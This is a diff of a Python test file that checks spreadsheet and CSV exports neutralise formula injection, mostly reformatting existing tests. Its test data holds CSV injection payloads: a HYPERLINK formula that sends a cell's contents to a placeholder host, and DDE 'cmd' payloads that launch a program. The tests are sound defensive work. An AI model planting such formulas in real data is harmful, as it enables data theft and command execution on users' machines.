@@ -20,8 +20,14 @@ from nir.reports.registry import ReportParams
 pytestmark = pytest.mark.django_db
 
 # What an attacker types as a name (or a URL filter), and what a spreadsheet must show.
-HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"Klikk\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://x.invalid/?"&A1,"Klikk")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _csv_rows(text: str) -> list[list[str]]:
@@ -31,7 +37,7 @@ def _csv_rows(text: str) -> list[list[str]]:
 def _assert_csv_safe(rows, expected_texts):
     cells = [c for row in rows for c in row]
     for cell in cells:
-        assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r") or _is_number(cell), repr(cell)
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or _is_number(cell), repr(cell)
     for text in expected_texts:
         assert "'" + text in cells, (text, cells)
 
@@ -62,6 +68,7 @@ def _assert_xlsx_safe(data: bytes, expected_texts, sheet=None):
 
 # --- the one writer ---------------------------------------------------------------------------
 
+
 def test_neutralise_follows_owasp():
     for text in HOSTILE:
         assert spreadsheet.neutralise(text) == "'" + text
@@ -78,8 +85,14 @@ def test_csv_writer_neutralises_text_but_keeps_numbers():
 
 def test_xlsx_writer_neutralises_text_but_keeps_numbers():
     buf = io.BytesIO()
-    spreadsheet.write_xlsx(buf, [spreadsheet.Sheet("Ark", [[spreadsheet.Header("=h")], ["=1+1", -3, Decimal("-2.5"), "-3",
-                                                                                        dt.date(2026, 1, 5)]])])
+    spreadsheet.write_xlsx(
+        buf,
+        [
+            spreadsheet.Sheet(
+                "Ark", [[spreadsheet.Header("=h")], ["=1+1", -3, Decimal("-2.5"), "-3", dt.date(2026, 1, 5)]]
+            )
+        ],
+    )
     wb = _assert_xlsx_safe(buf.getvalue(), ["=1+1", "-3", "=h"])
     row = [c.value for c in wb["Ark"][2]]
     assert row == ["=1+1", -3, -2.5, "-3", dt.datetime(2026, 1, 5)]
@@ -89,10 +102,11 @@ def test_xlsx_writer_neutralises_text_but_keeps_numbers():
 
 # --- reports ------------------------------------------------------------------------------------
 
+
 @pytest.fixture
 def hostile(register):
     persons = []
-    for i, text in enumerate(HOSTILE):
+    for text in HOSTILE:
         p = register.person(text, text)
         register.participation(p, dt.date(2026, 1, 5))
         persons.append(p)
@@ -133,12 +147,23 @@ def test_report_command_csv_and_diff_have_no_formula(hostile, tmp_path):
     call_command("report", "avvik-sluttmaal", "--format", "xlsx", "--out", str(out), "--name", "@x")
     _assert_xlsx_safe(out.read_bytes(), ["@x"])
     out = tmp_path / "d.csv"
-    call_command("report", "avvik-sluttmaal", "--known-at", "2000-01-01", "--compare-known-at", "now",
-                 "--format", "csv", "--out", str(out))
+    call_command(
+        "report",
+        "avvik-sluttmaal",
+        "--known-at",
+        "2000-01-01",
+        "--compare-known-at",
+        "now",
+        "--format",
+        "csv",
+        "--out",
+        str(out),
+    )
     _assert_csv_safe(_csv_rows(out.read_bytes().decode("utf-8")), HOSTILE)
 
 
 # --- statistics -----------------------------------------------------------------------------------
+
 
 def test_statistics_csv_and_xlsx_through_the_one_writer(hostile, monkeypatch):
     table = statistics.yearly(statistics.StatsParams(year=2026), scope=None)
@@ -150,12 +175,13 @@ def test_statistics_csv_and_xlsx_through_the_one_writer(hostile, monkeypatch):
 
 # --- the audit log --------------------------------------------------------------------------------
 
+
 def test_audit_exports_have_no_formula(hostile, client, django_user_model, capsys):
     from nir.access.models import Organisation
     from nir.testing.builders import make_user
 
     org = Organisation.objects.get(code="k-5001")
-    org.name = "=HYPERLINK(\"http://x.invalid\")"
+    org.name = '=HYPERLINK("http://x.invalid")'
     org.save()
     admin = make_user(django_user_model, "admin-csv", "imdi", roles=["imdi_admin"])
     person = hostile[0]
